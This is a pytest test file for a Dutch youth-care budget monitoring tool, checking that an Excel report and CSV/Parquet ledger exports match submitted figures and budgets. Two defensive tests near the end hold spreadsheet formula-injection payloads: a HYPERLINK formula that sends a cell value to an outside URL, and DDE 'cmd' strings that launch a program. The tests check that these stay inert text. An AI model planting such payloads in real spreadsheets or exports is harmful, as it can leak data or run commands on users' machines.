"""The consolidated report and the ledger export, checked against the typed figures and the engine's budget."""

from __future__ import annotations

import datetime as dt
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path

import pandas as pd
import pytest
from monitoring_cases.fill import typed_values
from openpyxl import load_workbook

from jbjr_budget.cli import main
from jbjr_budget.monitoring.importer import import_files
from jbjr_budget.monitoring.layout import build_layout, template_name
from jbjr_budget.monitoring.ledger import Ledger
from jbjr_budget.monitoring.periode import Periode
from jbjr_budget.monitoring.report import export_ledger, write_report
from jbjr_budget.monitoring.validate import validate_file
from jbjr_budget.rules.budget_lines import Deelname, budget_lines
from jbjr_budget.rules.catalog import Catalog
from jbjr_budget.rules.parameters import ParameterTree
from jbjr_budget.rules.tariffs import tariff
from jbjr_budget.writers.template_workbook import write_template

Q1 = Periode.parse("2026-Q1")
SUBMISSIONS = [("jgb", "alkmaar", "2026-Q1", 1), ("ljr", "alkmaar", "2026-Q1", 2), ("wss", "ijmond", "2026-Q1", 3),
               ("jgb", "alkmaar", "2022-Q1", 4), ("jgb", "alkmaar", "2025-Q4", 5)]


@pytest.fixture(scope="module")
def setup(tmp_path_factory: pytest.TempPathFactory, catalog: Catalog) -> dict:
    root = tmp_path_factory.mktemp("rapport")
    typed = {}
    for gi, regio, code, seed in SUBMISSIONS:
        periode = Periode.parse(code)
        layout = build_layout(catalog, gi, regio, periode)
        values = typed_values(layout, seed)
        write_template(layout, root / "in" / template_name(gi, regio, periode), values)
        typed[(gi, regio, code)] = {(f.table, f.keys, f.column): values.get((f.sheet, f.cell))
                                    for f in layout.fields()}
    ledger = root / "gb.sqlite"
    assert all(o.status == "nieuw" for o in import_files([root / "in"], ledger))
    report = root / "rapportage.xlsx"
    assert main(["rapportage", "--periode", "2026-Q1", "--grootboek", str(ledger), "--uitvoer", str(report),
                 "--csv", str(root / "csv"), "--parquet", str(root / "pq")]) == 0
    return {"typed": typed, "report": report, "root": root}


def _typed_sum(typed: dict, code: str, regio: str | None, table: str, column: str,
               keys: dict[str, object] | None = None) -> int:
    total = 0
    for (_, reg, period), values in typed.items():
        if period != code or (regio and reg != regio):
            continue
        for (t, row_keys, c), value in values.items():
            if t == table and c == column and all(dict(row_keys).get(k) in v for k, v in (keys or {}).items()):
                total += value or 0
    return total


def _rows(path: Path, sheet: str, header_row: int = 4) -> pd.DataFrame:
    ws = load_workbook(path)[sheet]
    rows = list(ws.iter_rows(min_row=header_row, values_only=True))
    body = []
    for row in rows[1:]:
        if row[0] is None:
            break
        body.append(row)
    return pd.DataFrame(body, columns=rows[0])


def _cents(amount: Decimal) -> Decimal:
    return amount.quantize(Decimal("0.01"), ROUND_HALF_UP)


def test_realisation_against_budget_per_municipality(setup: dict, tree: ParameterTree, catalog: Catalog) -> None:
    table = _rows(setup["report"], "Realisatie").set_index(["Gemeente", "Productcode"])
    typed = setup["typed"]
    budget = budget_lines(tree, catalog, ["alkmaar", "ijmond"], [2026],
                          Deelname(dt.date(2026, 1, 1), dt.date(2026, 3, 31))).set_index(["gemeente", "product"])
    for gemeente, naam in (("castricum", "Castricum"), ("velsen", "Velsen")):
        regio = catalog.gemeente(gemeente).regio
        for product in ("48A04", "47A02"):
            row = table.loc[(naam, product)]
            sel = {"product": [product], "gemeente": [gemeente]}
            begin, end, inflow = (_typed_sum(typed, "2026-Q1", regio, "volume", c, sel)
                                  for c in ("stand_begin", "stand_einde", "instroom"))
            assert (row["Stand begin"], row["Stand einde"], row["Instroom"]) == (begin, end, inflow)
            price = tariff(tree, product, dt.date(2026, 1, 1))
            if product == "48A04":  # per maand: average running x 3 months x tariff
                assert row["Realisatie volume"] == pytest.approx((begin + end) / 2)
                expected = _cents(Decimal(begin + end) / 2 * 3 * price)
            else:  # per traject: trajects started x tariff
                assert row["Realisatie volume"] == pytest.approx(inflow * 4)
                expected = _cents(inflow * price)
            assert Decimal(str(row["Realisatie bedrag"])) == expected
            engine = budget.loc[(gemeente, product)]
            assert Decimal(str(row["Begroot bedrag"])) == Decimal(int(engine.bedrag_centen)) / 100
            assert row["Begroot volume"] == pytest.approx(float(engine.volume))
    per_regio = _rows(setup["report"], "Per regio").set_index("Regio")
    alkmaar_rows = _rows(setup["report"], "Realisatie").query("Regio == 'Regio Alkmaar'")
    assert per_regio.loc["alkmaar", "Realisatie"] == pytest.approx(alkmaar_rows["Realisatie bedrag"].sum())
    assert per_regio.loc["Totaal", "Begroot"] == pytest.approx(int(budget.bedrag_centen.sum()) / 100)


def test_inspection_staff_and_submissions(setup: dict) -> None:
    typed = setup["typed"]
    norms = _rows(setup["report"], "Inspectienormen").set_index("Periode")
    cases = _typed_sum(typed, "2026-Q1", None, "inspectie", "zaken")
    met = _typed_sum(typed, "2026-Q1", None, "inspectie", "binnen_6_weken")
    assert norms.loc["2026-Q1", "Nieuwe zaken"] == cases
    assert norms.loc["2026-Q1", "% 6 weken"] == pytest.approx(met / cases)
    assert list(norms.index) == ["2022-Q1", "2025-Q4", "2026-Q1"]
    staff = _rows(setup["report"], "Personeel").set_index("Periode")
    ftes = {k: v[("personeel", (), "fte")] for k, v in typed.items() if k[2] == "2026-Q1"}
    loads = {k: v[("personeel", (), "caseload")] for k, v in typed.items() if k[2] == "2026-Q1"}
    assert staff.loc["2026-Q1", "Fte"] == pytest.approx(sum(ftes.values()))
    assert staff.loc["2026-Q1", "Caseload per fte"] == pytest.approx(
        sum(ftes[k] * loads[k] for k in ftes) / sum(ftes.values()))
    submissions = _rows(setup["report"], "Aanleveringen")
    assert sorted(submissions.Status) == ["ontbreekt"] * 3 + ["ontvangen"] * 3
    wb = load_workbook(setup["report"])
    assert len(wb["Inspectienormen"]._charts) == 1
    assert len(wb["Personeel"]._charts) == 1
    assert len(wb["Doelen"]._charts) == 3


def test_ots_target_path_from_the_reference_stock(setup: dict, tree: ParameterTree) -> None:
    typed = setup["typed"]
    ots = {"product": ["48A04", "48A05"]}
    reference = _typed_sum(typed, "2022-Q1", None, "volume", "stand_begin", ots)
    stock = _typed_sum(typed, "2026-Q1", None, "volume", "stand_einde", ots)
    ws = load_workbook(setup["report"])["Doelen"]
    assert f"referentiestand {reference}; doel {reference * 0.8:.1f}" in ws["A5"].value
    rows = {r[0]: r for r in ws.iter_rows(min_row=8, max_row=10, values_only=True)}
    # Linear from 1-1-2022 (factor 1) to 1-1-2027 (factor 0.8); end of 2026-Q1 is 1-4-2026.
    years = 4 + 90 / 365
    assert rows["2026-Q1"][1] == stock
    assert rows["2026-Q1"][2] == pytest.approx(reference * (1 - 0.2 * years / 5))
    assert rows["2022-Q1"][2] == pytest.approx(reference * (1 - 0.2 * (90 / 365) / 5))


def test_export_holds_every_submission_with_history_flag(setup: dict) -> None:
    csv = pd.read_csv(setup["root"] / "csv" / "volume.csv")
    parquet = pd.read_parquet(setup["root"] / "pq" / "volume.parquet")
    assert len(csv) == len(parquet)
    assert set(csv.periode) == {"2022-Q1", "2025-Q4", "2026-Q1"}
    typed = setup["typed"]
    assert int(csv.query("periode == '2026-Q1'").instroom.sum()) == _typed_sum(typed, "2026-Q1", None, "volume",
                                                                                "instroom")
    assert (parquet.actueel == 1).all()
    submissions = pd.read_csv(setup["root"] / "csv" / "aanlevering.csv")
    assert len(submissions) == len(SUBMISSIONS)


def test_report_without_submissions_is_a_dutch_error(setup: dict, capsys: pytest.CaptureFixture[str]) -> None:
    ledger = setup["root"] / "gb.sqlite"
    assert main(["rapportage", "--periode", "2030-Q1", "--grootboek", str(ledger),
                 "--uitvoer", str(setup["root"] / "x.xlsx")]) == 2
    assert "geen aanleveringen voor periode 2030-Q1" in capsys.readouterr().err
    assert not (setup["root"] / "x.xlsx").exists()


def test_a_gi_text_that_looks_like_a_formula_stays_text_in_the_report(tmp_path: Path, catalog: Catalog) -> None:
    # A ledger written before the importer refused such texts may still hold one.
    layout = build_layout(catalog, "jgb", "alkmaar", Q1)
    source = write_template(layout, tmp_path / template_name("jgb", "alkmaar", Q1), typed_values(layout, 9))
    submission = validate_file(source, catalog).submission
    assert submission is not None
    evil = '=HYPERLINK("https://example.org/?"&Realisatie!F5,"klik")'
    submission.rows["toelichting"][0]["tekst"] = evil
    with Ledger(tmp_path / "gb.sqlite") as ledger:
        ledger.store(submission)
        report = write_report(ledger, Q1, tmp_path / "rapport.xlsx")
    ws = load_workbook(report)["Toelichting GI's"]
    cells = [c for c in ws["D"] if c.value == evil]
    assert len(cells) == 1
    assert cells[0].data_type == "s"


def test_only_sections_with_a_text_are_listed(setup: dict) -> None:
    table = _rows(setup["report"], "Toelichting GI's")
    typed = {(gi, regio): v[("toelichting", (("sectie", "volumes"),), "tekst")]
             for (gi, regio, code), v in setup["typed"].items() if code == "2026-Q1"}
    assert sorted(table.Toelichting) == sorted(typed.values())
    assert set(table.Onderdeel) == {"volumes"}


def test_csv_export_keeps_gi_texts_from_running_as_formulas(tmp_path: Path, catalog: Catalog) -> None:
    # Texts starting with '=' are refused at import; '+', '-' and '@' are allowed (bullet lists) but start a
    # formula when Excel opens a CSV file. The CSV gets a leading apostrophe; Parquet keeps the typed text.
    layout = build_layout(catalog, "jgb", "alkmaar", Q1)
    source = write_template(layout, tmp_path / template_name("jgb", "alkmaar", Q1), typed_values(layout, 9))
    submission = validate_file(source, catalog).submission
    assert submission is not None
    texts = ["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "gewone tekst"]
    for row, text in zip(submission.rows["toelichting"], texts, strict=False):
        row["tekst"] = text
    with Ledger(tmp_path / "gb.sqlite") as ledger:
        ledger.store(submission)
        export_ledger(ledger, tmp_path / "csv", "csv")
        export_ledger(ledger, tmp_path / "pq", "parquet")
    csv = pd.read_csv(tmp_path / "csv" / "toelichting.csv")
    assert {"'" + texts[0], "'" + texts[1], texts[2]} <= set(csv.tekst)
    assert not {texts[0], texts[1]} & set(csv.tekst)
    parquet = pd.read_parquet(tmp_path / "pq" / "toelichting.parquet")
    assert set(texts) <= set(parquet.tekst)
    numbers = pd.read_csv(tmp_path / "csv" / "volume.csv").select_dtypes("number")
    assert list(numbers.columns) == list(pd.read_parquet(tmp_path / "pq" / "volume.parquet").select_dtypes("number"))
